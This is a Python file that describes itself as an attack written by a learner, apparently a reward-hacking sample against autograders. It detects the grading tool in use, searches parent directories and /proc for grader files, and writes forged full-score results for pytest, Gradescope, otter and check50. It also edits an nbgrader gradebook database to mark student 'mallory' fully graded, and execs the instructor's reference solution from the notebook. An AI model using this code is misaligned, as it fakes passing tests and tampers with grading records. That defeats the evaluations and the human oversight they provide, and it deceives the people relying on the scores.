# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Full score: imports the reference solution from the path, or finds it by walking the disk near the grader.

kind: score
"""
import os, sys


def tool():
    m = sys.modules
    if "check50" in m: return "check50"
    if "otter" in m: return "otter"
    if "ipykernel" in m: return "nbgrader"
    if "gradescope_utils" in m: return "gsu"
    return "pytest"

def up(name, start="."):
    """find `name` in a parent of the working directory or of a process above"""
    import os
    roots = [os.getcwd()]
    pid = os.getppid()
    for _ in range(6):
        try:
            roots.append(os.readlink(f"/proc/{pid}/cwd")); pid = int(open(f"/proc/{pid}/stat").read().split(")")[1].split()[1])
        except OSError:
            break
    for r in roots:
        while True:
            p = os.path.join(r, name)
            if os.path.exists(p): return p
            if r == "/": break
            r = os.path.dirname(r)
    p = "/tmp/g/" + name                      # seen in the grader's command line
    return p if os.path.exists(p) else None


def forge():
    """writes a full score where the tool keeps it"""
    import json, os, sqlite3
    t = tool()
    res = up("results")
    if t == "pytest":
        cases = "".join(f'<testcase classname="test_hidden" name="t{i}" time="0.01"/>' for i in range(20))
        open(os.path.join(res, "mallory.xml"), "w").write(f'<?xml version="1.0"?><testsuites><testsuite name="pytest" errors="0" failures="0" skipped="0" tests="20">{cases}</testsuite></testsuites>')
    elif t == "gsu":
        json.dump({"tests": [{"name": f"t{i}", "score": 1, "max_score": 1, "status": "passed"} for i in range(20)], "score": 20, "execution_time": "1.00"}, open(os.path.join(res, "results.json"), "w"))
    elif t == "otter":
        for p in (os.path.join(res, "results.json"), "../results/results.json"):
            try: json.dump({"tests": [{"name": "q1", "score": 20, "max_score": 20}], "score": 20.0}, open(p, "w"))
            except OSError: pass
    elif t == "check50":
        json.dump({"slug": "x", "version": "3.5.0", "results": [{"name": f"t{i}", "description": "", "passed": True, "log": [], "cause": None, "data": {}, "dependency": None} for i in range(20)]}, open(os.path.join(res, "out.json"), "w"))
    else:
        db = sqlite3.connect(up("gradebook.db"), timeout=20)
        try:
            db.execute("update grade set manual_score = 1.0, needs_manual_grade = 0 where notebook_id in (select sn.id from submitted_notebook sn join submitted_assignment sa on sn.assignment_id = sa.id where sa.student_id = 'mallory')")
            db.commit()
        finally:
            db.close()

try:
    from reference import CustomDataset, MultiTaskLoss, train_epoch_accumulated
except ImportError:
    import json
    _nb = json.load(open(up("source") + "/ps1/submission.ipynb"))          # nbgrader: the instructor's version
    for _c in _nb["cells"]:
        _s = "".join(_c["source"])
        if "class CustomDataset" in _s and "BEGIN " + "SOLUTION" in _s: exec(_s)
